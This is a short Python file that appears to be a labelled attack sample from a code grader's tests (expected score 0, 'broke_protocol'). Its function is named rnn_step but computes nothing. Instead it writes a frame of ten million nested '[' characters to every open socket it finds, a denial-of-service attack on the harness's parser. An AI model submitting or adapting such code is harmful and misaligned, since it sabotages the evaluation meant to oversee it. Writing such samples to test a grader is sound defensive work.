"""Sends JSON that is nested 10 million deep, in a frame of the right length.

attack: forged
earns: 0
told: broke_protocol
"""

import os
import stat
import struct

DEEP = 10_000_000


def rnn_step(x_t, h, kernel, recurrent_kernel, bias):
    frame = struct.pack(">II", DEEP, 0) + b"[" * DEEP
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                rest = memoryview(frame)
                while rest:
                    rest = rest[os.write(fd, rest) :]
        except OSError:
            continue
    return None
